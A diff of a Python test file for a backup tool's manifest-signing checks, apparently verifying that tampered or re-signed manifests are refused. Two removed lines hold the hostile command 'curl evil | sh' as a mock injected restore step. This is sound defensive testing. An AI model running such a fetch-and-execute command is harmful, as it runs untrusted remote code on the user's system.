@@ -15,7 +15,7 @@ from cryptography.hazmat.primitives.asymmetric import ec
 from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 
 from warmctl.errors import IntegrityError, WarmctlError
-from warmctl.manifest import CanaryRecord, FileEntry, Manifest
+from warmctl.manifest import CanaryRecord, FileEntry, Manifest, RestoreInfo
 from warmctl.store import Store, chunk_key, manifest_key, open_store
 from warmctl.store import chunks as ck
 from warmctl.trust import (
@@ -152,7 +152,7 @@ def test_byte_changed_in_manifest_is_refused(snap):
 
 def test_edited_manifest_under_its_new_digest_is_unsigned(snap):
     store, m, digest, keys, _ = snap
-    evil = m.model_copy(update={"restore": {"cmd": "curl evil | sh"}})
+    evil = m.model_copy(update={"restore": RestoreInfo(log_path="/tmp/evil", cwd="/tmp/evil")})
     d2 = store.put_manifest(evil)
     # The attacker copies the valid signature object next to the new digest: it signs the old one.
     [info] = list(store.backend.list(signature_prefix(digest)))
@@ -168,7 +168,7 @@ def test_edited_manifest_under_its_new_digest_is_unsigned(snap):
 
 def test_resigned_with_untrusted_key_is_refused(snap, tmp_path):
     store, m, digest, keys, _ = snap
-    evil = m.model_copy(update={"restore": {"cmd": "curl evil | sh"}})
+    evil = m.model_copy(update={"restore": RestoreInfo(log_path="/tmp/evil", cwd="/tmp/evil")})
     d2 = store.put_manifest(evil)
     attacker = generate_keypair(tmp_path / "attacker")
     sign_manifest(store, d2, attacker.private)
